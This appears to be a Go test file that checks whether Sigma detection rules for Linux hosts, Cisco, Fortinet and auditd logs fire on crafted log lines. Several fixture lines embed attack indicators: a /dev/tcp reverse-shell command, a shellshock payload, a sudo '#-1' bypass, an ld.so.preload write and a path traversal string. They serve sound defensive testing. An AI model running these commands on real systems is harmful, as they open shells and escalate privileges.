package syslog

import (
	"context"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/contrail-ir/contrail/event"
	"github.com/contrail-ir/contrail/evidence/auditd"
	"github.com/contrail-ir/contrail/internal/require"
	"github.com/contrail-ir/contrail/match/sigma"
)

// firing are lines, written for the purpose, on each of which the rule of the file must match, and must not on the lines of others
// listed as quiet.
var firing = map[string]string{
	// Hosts.
	"lnx_sshd_exploit_cve_2018_15473.yml":                             "Feb 17 13:40:03 h sshd[1]: error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308 [preauth]",
	"lnx_sudo_exploit_cve_2019_14287.yml":                             "Feb 17 13:40:03 h sudo:     bob : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh",
	"lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml":                   "Feb 17 13:40:03 h pkexec[3]: bob: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/]",
	"lnx_exploit_cve_2022_27999_cve_2022_27800.yml":                   "Feb 17 13:40:03 h networkd-dispatcher[3]: ERROR:Error handling notification for interface 'x' entering state ../../x",
	"lnx_clamav_relevant_message.yml":                                 "Feb 17 13:40:03 h clamd[3]: /tmp/x: Unix.Trojan.A-1 FOUND",
	"lnx_cron_crontab_file_modification.yml":                          "Feb 17 13:40:03 h crontab[3]: (root) REPLACE (root)",
	"lnx_guacamole_susp_guacamole.yml":                                "Feb 17 13:40:03 h guacd[3]: User \"@x\" joined connection \"$y\" (2 users now present)",
	"lnx_buffer_overflows.yml":                                        "Feb 17 13:40:03 h app[3]: *** stack smashing detected ***: terminated",
	"lnx_ldso_preload_injection.yml":                                  "Feb 17 13:40:03 h root: echo x > /etc/ld.so.preload",
	"lnx_potential_susp_ebpf_activity.yml":                            "Feb 17 13:40:03 h kernel: x is installing a program with bpf_probe_write_user helper that may corrupt user memory!",
	"lnx_privileged_user_creation.yml":                                "Feb 17 13:40:03 h useradd[3]: new user: name=x, UID=0, GID=0, home=/root, shell=/bin/sh",
	"lnx_shell_susp_log_entries.yml":                                  "Feb 17 13:40:03 h kernel: device eth0 entered promiscuous mode",
	"lnx_sshd_susp_ssh.yml":                                           "<35>1 2024-02-17T13:40:03Z h sshd-session 7 - - error: Corrupted MAC on input.",
	"lnx_syslog_security_tools_disabling_syslog.yml":                  "Feb 17 13:40:03 h systemd[1]: stopping firewalld - dynamic firewall daemon...",
	"lnx_syslog_susp_named.yml":                                       "Feb 17 13:40:03 h named[3]: client 192.0.2.1#5 (a): zone transfer: denied AXFR from [192.0.2.1].5",
	"lnx_vsftpd_susp_error_messages.yml":                              "Sat Feb 17 13:40:03 2024 [pid 7] CONNECT: Connection refused: too many sessions for this address.",
	"lnx_susp_jexboss.yml":                                            "Feb 17 13:40:03 h root: bash -c /bin/bash&/dev/tcp/192.0.2.1/1",
	"lnx_shellshock.yml":                                              "Feb 17 13:40:03 h bash: () { :; }; /bin/id",
	"lnx_sshd_exploit_cve_2023_2283_libssh_authentication_bypass.yml": "Feb 17 13:40:03 h sshd[1]: Failed to generate curve25519 keys",
	// Devices.
	"cisco_syslog_cve_2023_20198_ios_xe_web_ui.yml":                      "<189>77: Feb 17 13:40:03: %SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: cisco_tac_admin] [Source: 192.0.2.1] at 13:40:03 UTC Sat Feb 17 2024",
	"cisco_duo_mfa_bypass_via_bypass_code.yml":                           `<14>1 2024-02-17T13:40:03Z duo duolog - - - {"access_device":{"ip":"192.0.2.1"},"event_type":"authentication","reason":"bypass_user"}`,
	"cisco_cli_clear_logs.yml":                                           "10.0.0.1 7: Feb 17 13:40:03: %PARSER-5-CFGLOG_LOGGEDCMD: User:x  logged command:do clear logging",
	"cisco_cli_collect_data.yml":                                         "Sat Feb 17 13:40:03 2024\t10.0.0.1\tbob\ttty1\t192.0.2.5\tstop\ttask_id=3\tservice=shell\tcmd=show running-config <cr>",
	"cisco_cli_crypto_actions.yml":                                       "Feb 17 2024 13:40:03 asa1 : %ASA-5-111008: User 'bob' executed the 'crypto pki export x' command.",
	"cisco_cli_disable_logging.yml":                                      "Feb 17 13:40:03 r1 7: %PARSER-5-CFGLOG_LOGGEDCMD: User:x  logged command:no logging 192.0.2.1",
	"cisco_cli_net_sniff.yml":                                            "2024 Feb 17 13:40:03 nx1 %AAA-6-AAA_ACCOUNTING_MESSAGE: update:192.0.2.3@pts/0:bob:monitor capture point x (SUCCESS)",
	"cisco_cli_local_accounts.yml":                                       "<181>Feb 17 13:40:03 ise1 CISE_TACACS_Accounting 0001 1 0 2024-02-17 13:40:02.500 +01:00 0000012345 3300 NOTICE Tacacs-Accounting: TACACS+ Accounting with Command, CmdSet=[ CmdAV=username CmdArgAV=eve CmdArgAV=<cr> ]",
	"cisco_bgp_md5_auth_failed.yml":                                      "RP/0/RP0/CPU0:Feb 17 13:40:03.123 UTC: tcp[4]: %IP-TCP-3-BADAUTH : No MD5 digest from 192.0.2.1:1 to 192.0.2.2:179",
	"cisco_ldp_md5_auth_failed.yml":                                      "Feb 17 13:40:03 r1 7: %LDP-4-SOCKET_TCP_PACKET_MD5_AUTHEN_FAIL: LDP session 192.0.2.1",
	"fortinet_fortigate_new_admin_account_created.yml":                   `date=2024-02-17 time=13:40:03 devname="f" logid="0100044547" type="event" subtype="system" action="Add" cfgpath="system.admin"`,
	"fortinet_fortigate_user_group_modified.yml":                         `<189>date=2024-02-17 time=13:40:03 devname="f" logid="0100044547" type="event" subtype="system" action="Edit" cfgpath="user.group"`,
	"fortinet_fortigate_vpn_ssl_settings_modified.yml":                   `Feb 17 13:40:03 f date=2024-02-17 time=13:40:03 devname="f" logid="0100044547" type="event" subtype="system" action="Edit" cfgpath="vpn.ssl.settings"`,
	"huawei_bgp_auth_failed.yml":                                         "Feb 17 2024 13:40:03 hw %%01BGP/3/BGP_AUTH_FAILED(l)[2]:BGP session authentication failed. (PeerSession=192.0.2.1:179)",
	"juniper_bgp_missing_md5.yml":                                        "Feb 17 13:40:03 mx1 /kernel: tcp_auth_ok: Packet from 192.0.2.1:179 missing MD5 digest",
	"paloalto_globalprotect_exploit_cve_2024_3400_command_injection.yml": "2024-04-10 02:19:37,123 x INFO failed to unmarshal session(../../../../opt/panlogs/tmp/x) map , EOF",
	"fortios_sslvpnd_exploit_cve_2022_42475_exploitation_indicators.yml": "Feb 17 13:40:03 f sslvpnd[7]: /data/lib/libips.bak",
	"net_firewall_cleartext_protocols.yml":                               "Feb 17 2024 13:40:03: %ASA-6-302013: Built inbound TCP connection 7 for outside:192.0.2.1/5 (192.0.2.1/5) to inside:10.0.0.1/23 (10.0.0.1/23)",
	"net_firewall_apt_equationgroup_c2.yml":                              "Feb 17 13:40:03 h kernel: IN=eth0 OUT= SRC=69.42.98.86 DST=192.0.2.2 PROTO=TCP SPT=1 DPT=22",
	// Sysmon for Linux.
	"proc_creation_lnx_base64_decode.yml": `Feb 17 13:40:03 h sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Channel>Linux-Sysmon/Operational</Channel><Computer>b</Computer></System><EventData><Data Name="Image">/usr/bin/base64</Data><Data Name="CommandLine">base64 -d x</Data></EventData></Event>`,
	// The audit daemon.
	"lnx_auditd_chattr_immutable_removal.yml":                      "type=SYSCALL msg=audit(1700000000.1:1): arch=c000003e syscall=59 a0=1 a1=2 exe=\"/usr/bin/chattr\"\ntype=EXECVE msg=audit(1700000000.1:1): argc=3 a0=\"chattr\" a1=\"-i\" a2=\"/x\"",
	"lnx_auditd_bpfdoor_port_redirect.yml":                         "type=EXECVE msg=audit(1700000000.1:1): argc=7 a0=\"/sbin/iptables\" a1=\"-t\" a2=\"nat\" a3=\"--to-ports\" a4=\"42391\"\ntype=PROCTITLE msg=audit(1700000000.1:1): proctitle=69707461626C6573002D2D746F2D706F727473003432333931",
	"lnx_auditd_keylogging_with_pam_d.yml":                         "type=PATH msg=audit(1700000000.1:1): item=0 name=\"/etc/pam.d/password-auth\" nametype=NORMAL",
	"lnx_auditd_systemd_service_creation.yml":                      "type=SYSCALL msg=audit(1700000000.1:1): arch=c000003e syscall=257\ntype=PATH msg=audit(1700000000.1:1): item=1 name=\"/etc/systemd/system/x.service\" nametype=CREATE",
	"lnx_auditd_disable_system_firewall.yml":                       "type=SERVICE_STOP msg=audit(1700000000.1:1): pid=1 uid=0 msg='unit=firewalld comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" res=success'",
	"lnx_auditd_clean_disable_dmesg_logs_via_syslog.yml":           "type=SYSCALL msg=audit(1700000000.1:1): arch=c000003e syscall=103 success=yes a0=5",
	"lnx_auditd_web_rce.yml":                                       "type=SYSCALL msg=audit(1700000000.1:1): arch=c00000b7 syscall=221 success=yes euid=33",
	"lnx_auditd_exploit_cve_2026_31431_af_alg_socket_creation.yml": "type=SYSCALL msg=audit(1700000000.1:1): arch=c000003e syscall=41 success=yes a0=26 exe=\"/tmp/x\"",
	"lnx_auditd_susp_exe_folders.yml":                              "type=SYSCALL msg=audit(1700000000.1:1): arch=c000003e syscall=59 exe=\"/tmp/x\"",
	"lnx_auditd_create_account.yml":                                "type=ADD_USER msg=audit(1700000000.1:1): pid=1 msg='op=adding user acct=\"x\"'",
	"lnx_auditd_susp_c2_commands.yml":                              "type=SYSCALL msg=audit(1700000000.1:1): arch=c000003e key=\"susp_activity\"",
	"lnx_auditd_masquerading_crond.yml":                            "type=EXECVE msg=audit(1700000000.1:1): argc=3 a0=\"cp\" a1=\"/bin/sh\" a2=\"/tmp/crond\"",
}

// hits counts the matches of a set in a file.
type hits struct {
	t       testing.TB
	scanner event.Scanner
	n       int
}

func (h *hits) Damage(event.Damage) {}
func (h *hits) Batch(b *event.Batch) error {
	return h.scanner.Scan(b, func(int, event.RuleIndex) { h.n++ })
}

func matches(t testing.TB, rule, text string) int {
	t.Helper()
	set, rejected := sigma.Compile(sigma.Load(rule), sigma.Options{})
	if len(rejected) > 0 {
		t.Fatalf("%s: %v", rule, rejected)
	}
	var format event.Format = Format{}
	if (auditd.Format{}).Recognise([]byte(text), "") > format.Recognise([]byte(text), "") {
		format = auditd.Format{}
	} else if format.Recognise([]byte(text), "") == event.No {
		t.Errorf("not recognised: %.80q", text)
	}
	st, err := format.Open(event.File{Body: strings.NewReader(text), ModTime: modTime})
	if err != nil {
		t.Fatal(err)
	}
	needs := set.Needs()
	h, d := &hits{t: t, scanner: set.Scanner()}, format.Decoder()
	for {
		seg, err := st.Next(context.Background())
		if err == io.EOF {
			return h.n
		}
		if err == nil {
			err = d.Decode(seg, &needs, h)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

func TestRulesOfTheCorpusFire(t *testing.T) {
	paths := map[string]string{}
	err := filepath.WalkDir(require.Data(t, "sigma"), func(p string, _ fs.DirEntry, err error) error {
		if _, ok := firing[filepath.Base(p)]; ok {
			paths[filepath.Base(p)] = p
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	quiet := "Feb 17 13:40:03 h ntpd[3]: nothing of interest\n"
	for name, line := range firing {
		p := paths[name]
		if p == "" {
			t.Errorf("the corpus has no rule %s", name)
			continue
		}
		if n := matches(t, p, line+"\n"); n != 1 {
			t.Errorf("%s matched %d times on %.120q", name, n, line)
		}
		if n := matches(t, p, quiet); n != 0 {
			t.Errorf("%s matches a line that says nothing", name)
		}
	}
}

// TestCiscoRegressionCase reads the corpus' own case.
func TestCiscoRegressionCase(t *testing.T) {
	raw := require.Files(t, "sigma/regression_data/rules/cisco/aaa/cisco_cli_dot1x_disabled/*.raw")
	if len(raw) != 1 {
		t.Fatal(raw)
	}
	text, err := os.ReadFile(raw[0])
	if err != nil {
		t.Fatal(err)
	}
	if c := (Format{}).Recognise(text, ""); c < event.Likely {
		t.Errorf("recognised with %d", c)
	}
	if n := matches(t, require.Data(t, "sigma/rules/network/cisco/aaa/cisco_cli_dot1x_disabled.yml"), string(text)); n != 1 {
		t.Errorf("the rule matches %d times: %s", n, fmt.Sprint(text))
	}
}
